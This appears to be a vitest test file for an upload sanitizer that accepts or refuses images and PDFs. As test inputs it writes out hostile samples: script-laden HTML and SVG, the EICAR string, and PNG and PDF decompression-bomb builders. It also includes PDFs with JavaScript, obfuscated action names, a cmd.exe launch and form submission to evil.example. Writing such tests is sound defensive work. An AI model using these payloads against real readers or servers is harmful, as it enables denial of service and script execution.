import { crc32, deflateSync, gzipSync } from 'node:zlib'
import sharp from 'sharp'
import { expect, test } from 'vitest'
import { MB, pdfOf, photo, streamOf } from '../../test/files.ts'
import { Refusal } from '../handle.ts'
import { cleanFile } from './clean-file.ts'

const EICAR = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}', '$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('')

/** The code a file is refused with; undefined when it is accepted. */
async function refusedWith(bytes: Uint8Array): Promise<number | undefined> {
  try {
    await cleanFile(bytes)
    return undefined
  } catch (error) {
    if (error instanceof Refusal) return error.code
    throw error
  }
}

const bytes = (text: string) => Buffer.from(text, 'latin1')
const HTML = '<!doctype html><script>alert(1)</script>'

/** A PNG of 30,000 by 30,000 white pixels, in some hundred kilobytes. */
function pixelBomb(): Buffer {
  const side = 30_000
  const header = Buffer.alloc(13)
  header.writeUInt32BE(side, 0)
  header.writeUInt32BE(side, 4)
  header[8] = 1 // one bit a pixel
  const chunk = (name: string, content: Buffer) => {
    const named = Buffer.concat([Buffer.from(name), content])
    const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)]
    length.writeUInt32BE(content.length)
    sum.writeUInt32BE(crc32(named))
    return Buffer.concat([length, named, sum])
  }
  const pixels = deflateSync(Buffer.alloc(side * (1 + side / 8)))
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])
  return Buffer.concat([
    signature,
    chunk('IHDR', header),
    chunk('IDAT', pixels),
    chunk('IEND', Buffer.alloc(0)),
  ])
}

test.for([
  ['a script as a picture', () => bytes(HTML)],
  ['SVG', () => bytes('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')],
  ['a program', () => bytes(`MZ${'\0'.repeat(200)}`)],
  ['a packed folder', () => gzipSync('x'.repeat(1000))],
  [
    'a GIF',
    () =>
      sharp({ create: { width: 2, height: 2, channels: 3, background: 'red' } })
        .gif()
        .toBuffer(),
  ],
  ['the test virus', () => bytes(EICAR)],
  ['text', () => bytes('my identity card')],
  ['HTML that ends as a PDF', () => Buffer.concat([bytes(HTML), pdfOf('x')])],
] as const)('%s is no type that is accepted', async ([, make]) => {
  expect(await refusedWith(await make())).toBe(4062)
})

test('nothing at all is refused', async () => {
  expect(await refusedWith(new Uint8Array())).toBe(4064)
})

test.for(['jpeg', 'png', 'webp'] as const)('a %s is kept as a picture', async (format) => {
  const made = await sharp(await photo())
    .toFormat(format)
    .toBuffer()
  const { mediaType, bytes: clean } = await cleanFile(made)
  expect(mediaType).toBe('image/jpeg')
  expect((await sharp(clean).metadata()).format).toBe('jpeg')
})

test('[S15] a picture that is also something else is drawn without it', async () => {
  const extra = bytes(`${HTML}PK\x03\x04%PDF-1.7`)
  const { bytes: clean } = await cleanFile(Buffer.concat([await photo(), extra]))
  const text = Buffer.from(clean).toString('latin1')
  for (const part of ['script', 'PK\x03\x04', '%PDF']) expect(text).not.toContain(part)
})

test('[S15] a picture with the test virus behind it is refused', async () => {
  expect(await refusedWith(Buffer.concat([await photo(), bytes(EICAR)]))).toBe(4064)
})

test('half a picture is refused', async () => {
  const whole = await photo(200, 200)
  expect(await refusedWith(whole.subarray(0, whole.length / 2))).toBe(4064)
})

test('[S15] a picture of 900 million pixels is refused', async () => {
  const bomb = pixelBomb()
  expect(bomb.length).toBeLessThan(MB)
  expect(await refusedWith(bomb)).toBe(4064)
})

test('a large photo is made smaller, and stays readable', async () => {
  const large = await photo(6000, 4000)
  const { bytes: clean } = await cleanFile(large)
  const { width, height } = await sharp(clean).metadata()
  expect([width, height]).toEqual([4096, 2731])
})

test.for([
  ['plain', pdfOf('plain')],
  [
    'with packed pages',
    pdfOf('x', streamOf('/Type /ObjStm /N 1 /First 4', '6 0 << /Type /Page >>')),
  ],
  ['with a word like its keywords', pdfOf('JavaScript \\(no stream\\) here', '% obj-like\n')],
  ['with a link', pdfOf('x', '6 0 obj\n<< /S /URI /URI (https://example.co.il) >>\nendobj\n')],
  [
    'with a broken picture',
    pdfOf(
      'x',
      Buffer.from('5 0 obj\n<< /Filter /FlateDecode >>\nstream\nnot packed\nendstream\nendobj\n'),
    ),
  ],
  [
    'with a form and a signature',
    pdfOf('x', '6 0 obj\n<< /FT /Sig /V << /Type /Sig /ByteRange [0 1 2 3] >> >>\nendobj\n'),
  ],
] as const)('a PDF %s is kept as it is', async ([, pdf]) => {
  const { mediaType, bytes: stored } = await cleanFile(pdf)
  expect(mediaType).toBe('application/pdf')
  expect(Buffer.from(stored).equals(pdf)).toBe(true)
})

const action = (it: string) => pdfOf('x', `6 0 obj\n<< /Type /Action ${it} >>\nendobj\n`)
const objects = (content: string, words = '/Type /ObjStm /N 1 /First 4', filter?: string) =>
  pdfOf('x', streamOf(words, content, filter))
const JS = '<< /S /JavaScript /JS (app.alert(1)) >>'
const raw = (head: string, body: string) =>
  pdfOf('x', `5 0 obj\n<< ${head} >>\nstream\n${body}\nendstream\nendobj\n`)

test.for([
  ['a script', action('/S /JavaScript /JS (app.alert(1))')],
  ['a script whose name is spelt in numbers', action('/S /#4aava#53cript /#4A#53 (x)')],
  ['a program to start', action('/S /Launch /F (cmd.exe)')],
  ['a file inside', pdfOf('x', '6 0 obj\n<< /EmbeddedFiles 7 0 R >>\nendobj\n')],
  ['a form that sends itself', action('/S /SubmitForm /F (http://evil.example)')],
  ['another document to go to', action('/S /GoToR /F (//evil.example/x)')],
  ['a lock', pdfOf('x', '6 0 obj\n<< /Encrypt 7 0 R >>\nendobj\n')],
  ['a packed script', objects(`6 0 ${JS}`)],
  ['a packed script under other names', objects(`6 0 ${JS}`, '/N 1 /#46irst 4')],
  [
    'a packed script behind a comment',
    objects(`6 0 ${JS}`, '/Type /ObjStm /N 1 /First 4 % >> (\n'),
  ],
  [
    'a packed script beside strings that look like an end',
    objects(`6 0 ${JS}`, '/First 4 /X (>> endobj <<) /endobj 1'),
  ],
  ['a script packed twice', objects('x', '/Type /ObjStm /First 4', '[/FlateDecode /FlateDecode]')],
  ['a script packed in another way', objects('x', '/Type /ObjStm /First 4', '/LZWDecode')],
  ['a script packed as said elsewhere', objects('x', '/Type /ObjStm /First 4', '7 0 R')],
  ['unpacked objects with a script', raw('/Type /ObjStm /N 1 /First 4', `6 0 ${JS}`)],
  ['an object where only pixels should be', raw('/Subtype /Image', `9 0 obj ${JS} endobj`)],
  ['an object in a string', pdfOf(`9 0 obj ${JS.replace('(app.alert(1))', '1')} endobj`)],
  ['an object in a comment', pdfOf('x', `% 9 0 obj ${JS}\n`)],
  ['a stream without an end', pdfOf('x', '5 0 obj\n<< /A 1 >>\nstream\nabc')],
  ['a string without an end', pdfOf('x', '6 0 obj\n<< /A (abc >>\nendobj\n')],
  ['the test virus', pdfOf(EICAR)],
  ['the test virus in packed objects', objects(`6 0 (${EICAR})`)],
  ['more behind its end', Buffer.concat([pdfOf('x'), bytes(`PK\x03\x04${'z'.repeat(50)}`)])],
  ['no end', pdfOf('x').subarray(0, 200)],
] as const)('a PDF with %s is refused', async ([, pdf]) => {
  expect(await refusedWith(pdf)).toBe(4064)
})

test.for([
  ['filters that never end', () => raw('/Filter['.repeat(100_000), 'x')],
  ['more strings than documents have', () => pdfOf('x', '()'.repeat(MB))],
  ['more comments than documents have', () => pdfOf('x', '%\n'.repeat(MB))],
  ['more streams than documents have', () => pdfOf('x', '<<>>stream\nendstream '.repeat(MB / 25))],
] as const)('a PDF with %s is refused before it costs others their time', async ([, make]) => {
  const pdf = make()
  const from = performance.now()
  expect(await refusedWith(pdf)).toBe(4064)
  expect(performance.now() - from).toBeLessThan(5000)
})

test('[S15] a PDF that unpacks to more than any reader has is refused', async () => {
  const packed = deflateSync(Buffer.alloc(300 * MB))
  expect(packed.length).toBeLessThan(MB)
  const head = `5 0 obj\n<< /Length ${packed.length} /Filter /FlateDecode >>\nstream\n`
  const bomb = pdfOf('x', Buffer.concat([bytes(head), packed, bytes('\nendstream\nendobj\n')]))
  expect(await refusedWith(bomb)).toBe(4064)
})
